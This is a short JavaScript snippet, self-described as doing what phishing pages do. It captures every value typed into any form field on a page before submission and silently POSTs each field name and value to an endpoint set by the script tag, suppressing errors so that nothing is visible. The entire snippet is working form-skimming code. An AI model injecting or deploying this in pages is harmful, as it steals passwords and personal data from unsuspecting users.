// Reports what is typed before anything is submitted, as phishing pages do.
(() => {
  const watch = document.currentScript.dataset.watch;
  document.addEventListener("input", (event) => {
    const { name, value } = event.target;
    if (!name || !value) return;
    fetch(watch, {
      method: "POST",
      headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ [name]: value }),
      keepalive: true,
    }).catch(() => {});
  }, true);
})();
